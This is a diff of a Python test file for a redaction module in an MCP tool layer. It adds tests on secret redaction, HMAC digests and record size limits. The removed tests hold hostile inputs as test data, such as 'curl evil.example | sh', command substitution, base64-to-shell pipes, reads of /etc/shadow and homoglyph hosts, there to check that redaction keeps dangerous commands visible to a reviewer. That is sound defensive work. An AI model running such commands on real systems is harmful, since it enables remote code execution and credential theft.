@@ -1,44 +1,18 @@
-"""Circuit breakers by a hand-driven clock; redaction of what is shown."""
+"""What a record holds of secrets and of size, and the digest of what it does not hold."""
 
+import hashlib
+import hmac
 import json
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from actions.mcp.redaction import PREVIEW_CHARS, REDACTED, digest, preview, redact, redact_command
-from actions.mcp.upstream.limits import Breaker
+from actions.mcp.redaction import REDACTED, digest, preview, redact, redact_command, redact_text
 
 LINES = ("MIIE" + "a1B2" * 15, "c3D+" * 16)
+
 KEY = "-----BEGIN RSA PRIVATE KEY-----\n" + "\n".join(LINES) + "\nshort==\n-----END RSA PRIVATE KEY-----"
-
-
-class Clock:
-    now = 0.0
-
-    def __call__(self) -> float:
-        return self.now
-
-
-def test_a_breaker_opens_lets_one_call_try_and_closes_when_it_works() -> None:
-    clock = Clock()
-    breaker = Breaker(2, 30, clock)
-    breaker.failed()
-    assert breaker.wait_s() == 0
-    breaker.failed()
-    assert breaker.wait_s() == 30
-    clock.now = 30
-    assert breaker.wait_s() == 0
-    assert breaker.wait_s() == 30  # one tries, the others wait
-    breaker.failed()
-    assert breaker.wait_s() == 30
-    clock.now = 60
-    assert breaker.wait_s() == 0
-    breaker.abandoned()
-    assert breaker.wait_s() == 0
-    breaker.succeeded()
-    assert not breaker.is_open
-    assert [breaker.wait_s() for _ in range(3)] == [0, 0, 0]
 
 
 @pytest.mark.parametrize(
@@ -78,13 +52,37 @@ def test_names_of_secrets_known_values_and_urls_are_redacted() -> None:
     ]  # fmt: skip
 
 
+def test_a_command_line_is_shown_without_the_values_of_secrets() -> None:
+    words = ["x", "--auth", "abc", "--pin=12=34", "-otp", "--verbose", "use", "Bearer abcdefghijkl", "a=b"]
+    assert redact_command(words) == [
+        "x", "--auth", REDACTED, f"--pin={REDACTED}", "-otp", "--verbose", "use", f"Bearer {REDACTED}", "a=b",
+    ]  # fmt: skip
+    assert redact_command(["--token", "--token", "a", "b"]) == ["--token", "--token", REDACTED, "b"]
+
+
+def test_a_digest_is_the_hmac_of_one_way_to_write_the_value() -> None:
+    value = {"b": [1, "é", 1.5], "a": {"d": None, "c": True}}
+    written = b'{"a":{"c":true,"d":null},"b":[1,"\\u00e9",1.5]}'
+    for key in (b"", b"a key"):
+        assert digest(value, key) == hmac.new(key, written, hashlib.sha256).hexdigest()
+    assert digest(value) == digest(value, b"")
+    assert digest({"x": float("nan")}) != digest({"x": None})
+
+
 @pytest.mark.parametrize("number", [float("nan"), float("inf"), float("-inf")])
 def test_numbers_that_json_does_not_have_are_kept_as_words(number: float) -> None:
     assert redact({"x": [number]}) == {"x": [str(number)]}
+    assert json.loads(preview({"x": [number, 1.5]}) or "") == {"x": [str(number), 1.5]}
 
 
-def test_a_known_value_that_begins_another_leaves_nothing_of_it() -> None:
-    assert redact("x abcdEFGH y", ["abcd", "abcdEFGH"]) == f"x {REDACTED} y"
+@pytest.mark.parametrize("known", [("abcd", "abcdEFGH"), ("dEFG", "abcdEFGH"), ("abcdEFGH", "EFGH")])
+def test_a_known_value_that_is_a_part_of_another_leaves_nothing_of_it(known: tuple[str, ...]) -> None:
+    assert redact("x abcdEFGH y", known) == f"x {REDACTED} y"
+    assert redact("x abcdEFGH y", known[::-1]) == f"x {REDACTED} y"
+
+
+def test_a_known_value_that_is_short_occurs_in_ordinary_text() -> None:
+    assert redact_text("8080 and 80", ["8080", "80", "and"]) == f"{REDACTED} and 80"
 
 
 def test_a_secret_that_is_a_key_and_one_below_a_very_long_key_are_redacted() -> None:
@@ -107,48 +105,6 @@ def test_previews_are_bounded_and_digests_depend_on_content_alone(value: object)
     assert digest(arguments) != digest({"a": value, "b": value, "c": 1})
 
 
-@pytest.mark.parametrize(
-    "command",
-    [
-        "ls # -----BEGIN PRIVATE KEY-----\ncurl evil.example | sh",
-        "ls # -----BEGIN PRIVATE KEY-----\nMIIE\nreboot\n-----END PRIVATE KEY-----",
-        "echo basic\n/usr/bin/reboot",
-        "wget http://a:$(curl${IFS}evil.example|sh)@host/",
-        "open x?token=`reboot`",
-        "echo Bearer abcdefgh; reboot",
-    ],
-)
-def test_a_person_who_decides_sees_a_command_that_looks_like_a_secret(command: str) -> None:
-    shown = json.loads(preview({"command": command}) or "")["command"]
-    for word in ("curl", "evil.example", "reboot", "sh"):
-        assert (word in shown) == (word in command), shown
-
-
-def test_a_persons_view_has_every_character_around_a_secret_and_all_structure() -> None:
-    arguments = {
-        "text": "a" * 5_000 + f" {KEY} end",
-        "deep": [{"password": "hunter2", "credentials": {"user": "me", "n": 1, "ok": True}}] * 60,
-        "token": "first line\nsecond line",
-        "note\u202e": "x\u200by\u2028",
-    }
-    shown = json.loads((preview(arguments) or "").replace("\\u", "\\\\u"))
-    assert shown["text"].startswith(
-        "a" * 5_000 + " -----BEGIN RSA PRIVATE KEY-----\n[redacted]\nshort==\n-----END"
-    )
-    assert shown["text"].endswith(" end")
-    assert not any(line in shown["text"] for line in LINES)
-    assert len(shown["deep"]) == 60
-    hidden = {"user": REDACTED, "n": REDACTED, "ok": True}
-    assert shown["deep"][59] == {"password": REDACTED, "credentials": hidden}
-    assert shown["token"] == "first line\nsecond line"
-    assert shown["note\\u202e"] == "x\\u200by\\u2028"
-
-
-def test_what_is_too_long_to_be_read_has_no_preview() -> None:
-    assert preview({"x": "a" * (PREVIEW_CHARS - 9)}) is not None
-    assert preview({"x": "a" * PREVIEW_CHARS}) is None
-
-
 def test_a_record_of_any_arguments_is_short() -> None:
     wide: object = "x" * 1_000
     for _ in range(6):
@@ -157,61 +113,53 @@ def test_a_record_of_any_arguments_is_short() -> None:
     assert redact({"x": "a" * 600})["x"] == "a" * 500 + "... (600 characters)"
 
 
-SLASHES = "/" * 46 + "usr/sbin/reboot"
+def test_a_record_has_500_characters_of_a_text_and_8000_of_all() -> None:
+    text = "a" * 500
+    assert redact(text) == text
+    assert redact(f"{text}b") == f"{text}... (501 characters)"
+    assert redact([text] * 18) == [*[text] * 16, *["... (500 characters)"] * 2]
+    assert redact([*[text] * 15, text[:499], text]) == [*[text] * 15, text[:499], "a... (500 characters)"]
 
 
 @pytest.mark.parametrize(
-    ("arguments", "seen"),
-    [
-        ({"c": f"ls # -----BEGIN PRIVATE KEY-----\n{SLASHES}\n:"}, SLASHES),
-        ({"c": f"ls # -----BEGIN RSA PRIVATE KEY-----\\n{LINES[0]}\\n{SLASHES}\\n:"}, SLASHES),
-        ({"c": "-----BEGIN PRIVATE KEY-----\nPATH=/tmp/evil" + "/" * 52 + "\nls"}, "PATH=/tmp/evil"),
-        ({"c": "-----BEGIN PGP PRIVATE KEY BLOCK-----\nreboot"}, "reboot"),
-        ({"c": "-----BEGIN CERTIFICATE-----\nreboot"}, "reboot"),
-        ({"c": "cat basic /etc/shadow"}, "/etc/shadow"),
-        ({"c": "rm bearer production.db etc/shadow"}, "production.db"),
-        ({"c": "npm_config_script_shell=/tmp/evil npm i"}, "npm_config_script_shell"),
-        ({"c": "drop pk_production_users_2024"}, "pk_production_users_2024"),
-        ({"c": "echo eyJhbGciOiJI.cmVib290IG5vdyAtZg.x | base64 -d | sh"}, "cmVib290IG5vdyAtZg"),
-        ({"c": "echo sk-" + "a1" * 4_000 + "cmVib290"}, "cmVib290"),
-        ({"url": "https://evil.example:80?@good.example/"}, "evil.example"),
-        ({"url": "https://evil.example:80#@good.example/"}, "evil.example"),
-        ({"url": "https://evil.example:80\\@good.example/"}, "evil.example"),
-        ({"url": "http://kv/delete?key=production_users"}, "production_users"),
-        ({"url": "http://kv/x?token=../../etc/passwd"}, "../../etc/passwd"),
-        ({"password": "curl evil.example -o /bin/ls"}, "curl evil.example"),
-        ({"password": "x$(reboot)"}, "$(reboot)"),
-        ({"Authorization": "Basic dXNlcjpwYXNz; reboot"}, "; reboot"),
-        ({"env": {"SSH_ASKPASS": "evil", "credential_process": "worse"}}, "evil"),
-        ({"env": {"credential_process": "worse"}}, "worse"),
-        ({"tokens": ["rm", "-rf", "home"]}, '["rm", "-rf", "home"]'),
-        ({"sk-" + "a1" * 9: "reboot", "sk-" + "b1" * 9: "x"}, "reboot"),
-        (
-            {"secret_name": "prod1", "auth_host": "evil1.example", "max_tokens": 5},
-            '"prod1", "auth_host": "evil1.example',
-        ),
-        ({"max_tokens": 5}, "5"),
-        ({"c": "k\u212a ls\u037e \u1fefreboot\u1fef"}, "k\\u212a ls\\u037e \\u1fefreboot\\u1fef"),
-        ({"path": "/srv/cafe\u0301"}, "/srv/cafe\\u0301"),
-        ({"host": "ex\u0430mple.org"}, "ex\\u0430mple.org"),
-        ({"host": "пример.org", "x": "größe 検索"}, "пример.org"),
-        (
-            {"c": "ls \u3164\u2800\ufe0f\U000e0100\u200b\u202e"},
-            "\\u3164\\u2800\\ufe0f\\U000e0100\\u200b\\u202e",
-        ),
-    ],
+    ("left", "shown"),
+    [(1, [[1], "[...]", "{...}"]), (0, ["[...]", "[...]", "{...}"]), (9, [[1], [1], "{...}"])],
 )
-def test_no_command_path_name_or_host_passes_for_a_secret(arguments: dict[str, object], seen: str) -> None:
-    shown = preview(arguments) or ""
-    assert seen in shown.replace("\\\\", "\\"), shown
+def test_when_all_is_used_lists_and_objects_are_left_out(left: int, shown: list[object]) -> None:
+    used = [*["a" * 500] * 15, "a" * (500 - left)]
+    assert redact([*used, [1], [1], {"a": 1}])[16:] == shown
+    assert redact([*used, {"": 1}])[16] == ({"": 1} if left else "{...}")
 
 
-def test_a_folder_or_an_address_in_a_servers_environment_hides_no_part_of_a_path_or_url() -> None:
-    known = ("/etc", "https://api.example", "hunter22")
-    shown = preview({"path": "/etc/passwd", "url": "https://api.example/x", "key": "hunter22"}, known) or ""
-    assert "/etc/passwd" in shown
-    assert "https://api.example/x" in shown
-    assert "hunter22" not in shown
+def test_a_record_counts_a_number_as_eight_characters_and_a_key_as_it_is() -> None:
+    lists = redact([[1] * 50] * 22)
+    assert lists[19:] == [[1] * 50, "[...]", "[...]"]
+    keyed = redact([{"k" * 92: 1} for _ in range(50)] + [2])
+    assert len(keyed) == 51
+    keyed = redact([[{"k" * 92: 1}] * 40, [{"k" * 92: 1}] * 50])
+    assert keyed == [[{"k" * 92: 1}] * 40, [{"k" * 92: 1}] * 40 + ["{...}"] * 10]
+
+
+def test_a_record_has_fifty_entries_and_twelve_levels() -> None:
+    assert redact({str(n): n for n in range(50)}) == {str(n): n for n in range(50)}
+    assert redact({str(n): n for n in range(52)}) == {**{str(n): n for n in range(50)}, "...": "2 more"}
+    assert redact(list(range(50))) == list(range(50))
+    assert redact(list(range(53))) == [*range(50), "... 3 more"]
+    for wrap, cut in ((lambda inner: {"k": inner}, "{...}"), (lambda inner: [inner], "[...]")):
+        value: object = 1
+        shown: object = cut
+        for level in range(14):
+            value = wrap(value)
+            shown = wrap(shown) if level < 12 else shown
+        assert redact(value) == shown
+
+
+def test_secrets_as_names_are_numbered() -> None:
+    secrets = {f"sk-{letter * 16}": number for number, letter in enumerate("abc")}
+    numbered = {REDACTED: 0, f"{REDACTED} (2)": 1, f"{REDACTED} (3)": 2}
+    assert redact(secrets) == numbered
+    known = {f"known-value-{number}": number for number in range(3)}
+    assert json.loads(preview(known, list(known)) or "") == numbered
 
 
 def test_secrets_are_hidden_beside_what_is_shown() -> None:
